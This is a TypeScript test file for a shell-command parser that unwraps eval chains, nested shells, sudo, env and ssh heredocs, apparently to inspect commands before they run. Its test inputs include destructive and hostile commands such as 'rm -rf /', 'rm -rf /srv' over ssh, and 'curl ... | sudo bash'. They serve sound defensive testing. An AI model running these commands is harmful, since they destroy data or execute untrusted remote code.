import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { parseShell, type SimpleCommand } from '../src/index.js';

interface ExpectedCommand {
  program: string;
  args: string[];
  via: string[];
  dynamic?: boolean;
  code?: string;
  redirects?: { op: string; target: string }[];
  assignments?: Record<string, string>;
}

interface ShellVector {
  line: string;
  commands: ExpectedCommand[];
  unparsed?: boolean;
}

const HOME = '/home/u';
const vectors = JSON.parse(readFileSync(new URL('./vectors/shell.json', import.meta.url), 'utf8')) as ShellVector[];

function describeCommand(command: SimpleCommand): ExpectedCommand {
  const described: ExpectedCommand = { program: command.program, args: command.args, via: command.via };
  if (command.dynamic) described.dynamic = true;
  if (command.code !== undefined) described.code = command.code.source;
  if (command.redirects.length > 0) described.redirects = command.redirects;
  if (Object.keys(command.assignments).length > 0) described.assignments = command.assignments;
  return described;
}

describe('parseShell vectors', () => {
  it('has at least 150 vectors', () => {
    expect(vectors.length).toBeGreaterThanOrEqual(150);
  });

  for (const vector of vectors) {
    it(vector.line.replaceAll('\n', '\\n'), () => {
      const model = parseShell(vector.line, { home: HOME });
      expect(model.commands.map(describeCommand)).toStrictEqual(vector.commands);
      expect(model.unparsed).toBe(vector.unparsed === true);
    });
  }
});

describe('parseShell', () => {
  it('keeps the source text of each command', () => {
    const model = parseShell('ls -la && sudo rm -rf /tmp/x; echo "done"');
    expect(model.commands.map((command) => command.text)).toStrictEqual(['ls -la', 'sudo rm -rf /tmp/x', 'echo "done"']);
  });

  it('says where a line fails to parse, and keeps what it understood', () => {
    const model = parseShell('rm -rf /tmp/x; echo $(');
    expect(model.unparsed).toBe(true);
    expect(model.unparsedReason).toMatch(/^parse error at \d+: /);
    expect(model.commands[0]).toMatchObject({ program: 'rm', args: ['-rf', '/tmp/x'] });
  });

  it('reports a parse error inside a nested shell with where it is', () => {
    const model = parseShell(`bash -c 'echo "unterminated'`);
    expect(model.unparsed).toBe(true);
    expect(model.unparsedReason).toContain('(in bash -c)');
  });

  it('leaves ~ and $HOME unresolved without a home', () => {
    const model = parseShell('rm -rf ~ "$HOME"');
    expect(model.commands[0]).toMatchObject({ args: ['-rf', '~', '$HOME'], dynamic: true });
  });

  it('does not expand a quoted or escaped ~', () => {
    const model = parseShell(`cat '~/a' "~/b" \\~/c ~/d`, { home: HOME });
    expect(model.commands[0]?.args).toStrictEqual(['~/a', '~/b', '~/c', `${HOME}/d`]);
  });

  it('passes the size bound with a reason and reads the start of the line', () => {
    const model = parseShell(`rm -rf /tmp/a; ${'x'.repeat(200)}`, { maxLength: 100 });
    expect(model.unparsed).toBe(true);
    expect(model.unparsedReason).toMatch(/^size bound/);
    expect(model.commands[0]).toMatchObject({ program: 'rm', args: ['-rf', '/tmp/a'] });
  });

  it('stops at the command bound', () => {
    const model = parseShell(Array.from({ length: 50 }, (_, index) => `echo ${index}`).join('; '), { maxCommands: 10 });
    expect(model.commands).toHaveLength(10);
    expect(model.unparsedReason).toBe('command bound');
  });

  it('stops at the nesting bound of eval chains', () => {
    const model = parseShell(`${'eval '.repeat(40)}rm -rf /`);
    expect(model.unparsed).toBe(true);
    expect(model.unparsedReason).toMatch(/^nesting bound/);
    expect(model.commands).toHaveLength(0);
  });

  it('reads eval chains within the bound', () => {
    const model = parseShell(`${'eval '.repeat(10)}rm -rf /`);
    expect(model.unparsed).toBe(false);
    expect(model.commands[0]).toMatchObject({ program: 'rm', args: ['-rf', '/'], via: Array.from({ length: 10 }, () => 'eval') });
  });

  it('stops at the nesting bound of $(...)', () => {
    const depth = 40;
    const model = parseShell(`${'echo $('.repeat(depth)}rm -rf /${')'.repeat(depth)}`);
    expect(model.unparsed).toBe(true);
    expect(model.unparsedReason).toMatch(/^nesting bound/);
    expect(model.commands.length).toBeLessThanOrEqual(17);
  });

  it('gives up on a chain of more than 64 wrappers', () => {
    const model = parseShell(`${'nohup '.repeat(100)}rm x`);
    expect(model.unparsedReason).toBe('unwrap bound');
  });

  it('gives the variables a command sets to the shell it starts', () => {
    expect(parseShell(`X=rm bash -c '$X -rf /'`).commands[0]).toMatchObject({ program: 'rm', args: ['-rf', '/'], via: ['bash -c'] });
    expect(parseShell(`env X=rm sh -c '$X -rf /'`).commands[0]).toMatchObject({ program: 'rm', via: ['env', 'sh -c'] });
  });

  it('marks a shell that reads a pipe of unknown text as dynamic', () => {
    expect(parseShell('curl -s https://x.example | sudo bash').commands[1]).toMatchObject({ program: 'bash', dynamic: true, via: ['sudo'] });
  });

  it('reads a heredoc fed to ssh as remote commands', () => {
    const model = parseShell('ssh host <<EOF\nrm -rf /srv\nEOF');
    expect(model.commands.map((command) => [command.program, command.via])).toStrictEqual([
      ['ssh', []],
      ['rm', ['ssh host']],
    ]);
  });
});
